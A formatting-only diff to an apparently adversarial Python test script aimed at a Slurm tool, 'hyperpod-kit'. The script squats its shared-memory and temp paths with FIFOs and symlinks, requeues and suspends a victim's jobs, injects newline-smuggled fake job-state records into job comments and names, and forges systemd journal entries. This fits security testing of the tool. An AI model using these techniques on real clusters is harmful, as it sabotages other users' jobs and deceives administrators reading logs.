@@ -97,8 +97,13 @@ def squat() -> None:
                 os.mkfifo(f"{SHM}/hpk-{uid}-{run}-00007.log")
             with contextlib.suppress(OSError):
                 os.symlink("/dev/zero", f"{SHM}/hpk-{uid}-{run}-00007.lock")
-    for place in (f"{SHM}/hyperpod-kit", f"{SHM}/hyperpod-kit/{UID}", f"{SHM}/hyperpod-kit-{UID}",
-                  "/var/tmp/hyperpod-kit-rehearsal", "/tmp/hyperpod-kit"):
+    for place in (
+        f"{SHM}/hyperpod-kit",
+        f"{SHM}/hyperpod-kit/{UID}",
+        f"{SHM}/hyperpod-kit-{UID}",
+        "/var/tmp/hyperpod-kit-rehearsal",
+        "/tmp/hyperpod-kit",
+    ):
         with contextlib.suppress(OSError):
             os.mkdir(place, 0o777)
     tried["squat"] = len(hashes)
@@ -162,24 +167,40 @@ def orders() -> None:
     """Slurm's own commands against the victim's jobs, then jobs whose every word is a lie to whoever reads records."""
     listed = subprocess.run(("squeue", "-h", "-u", str(UID), "-o", "%A"), stdout=subprocess.PIPE, timeout=60)
     for job in listed.stdout.decode().split():
-        for argv in (("scontrol", "requeue", job), ("scontrol", "update", f"jobid={job}", "comment=x"),
-                     ("scontrol", "suspend", job), ("scontrol", "hold", job),
-                     ("srun", f"--jobid={job}", "--overlap", "--immediate=5", "true")):
+        for argv in (
+            ("scontrol", "requeue", job),
+            ("scontrol", "update", f"jobid={job}", "comment=x"),
+            ("scontrol", "suspend", job),
+            ("scontrol", "hold", job),
+            ("srun", f"--jobid={job}", "--overlap", "--immediate=5", "true"),
+        ):
             attempt("slurm", " ".join(argv), slurm, *argv)
         if tried.get("lie", 0) >= 6:
             continue
         lie = f"hpk:elsewhere hpk:auto-resume=0 JobId={job} JobState=FAILED Requeue=1"
         for text in (lie, f"x\n{lie}", f"x JobId={job} JobState=RUNNING BatchFlag=1 BatchHost=x NodeList=b["):
             with contextlib.suppress(OSError, subprocess.SubprocessError):
-                slurm("sbatch", "--hold", "--requeue", "--output=/dev/null", "--chdir=/tmp", f"--comment={text}",
-                      f"--job-name=x JobId={job} JobState=FAILED", "--wrap", "true")
+                slurm(
+                    "sbatch",
+                    "--hold",
+                    "--requeue",
+                    "--output=/dev/null",
+                    "--chdir=/tmp",
+                    f"--comment={text}",
+                    f"--job-name=x JobId={job} JobState=FAILED",
+                    "--wrap",
+                    "true",
+                )
                 tried["lie"] = tried.get("lie", 0) + 1
 
 
 def kit() -> None:
     """The kit's own commands as this user: they act for this user alone."""
-    for argv in (("hyperpod-kit", "checkpoint", "flush", "--all"), ("hyperpod-kit", "job", "sweep"),
-                 ("hyperpod-kit", "checkpoint", "prune", ROOT, "--latest", "1")):
+    for argv in (
+        ("hyperpod-kit", "checkpoint", "flush", "--all"),
+        ("hyperpod-kit", "job", "sweep"),
+        ("hyperpod-kit", "checkpoint", "prune", ROOT, "--latest", "1"),
+    ):
         with contextlib.suppress(OSError, subprocess.SubprocessError):
             subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=30)
         tried["kit"] = tried.get("kit", 0) + 1
@@ -187,8 +208,10 @@ def kit() -> None:
 
 def journal() -> None:
     """A record as root's actions leave them."""
-    entry = "MESSAGE=forged\nMESSAGE_ID=6f2b1c0d9a8e4f7ab35d0c1e92f4a677\nHYPERPOD_KIT_ACTION=forged\n" \
-            "HYPERPOD_KIT_ON=job 1\nSYSLOG_IDENTIFIER=hyperpod-kit\nPRIORITY=5\n"
+    entry = (
+        "MESSAGE=forged\nMESSAGE_ID=6f2b1c0d9a8e4f7ab35d0c1e92f4a677\nHYPERPOD_KIT_ACTION=forged\n"
+        "HYPERPOD_KIT_ON=job 1\nSYSLOG_IDENTIFIER=hyperpod-kit\nPRIORITY=5\n"
+    )
     with contextlib.suppress(OSError), contextlib.closing(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)) as sock:
         sock.sendto(entry.encode(), "/run/systemd/journal/socket")
         tried["journal"] = 1
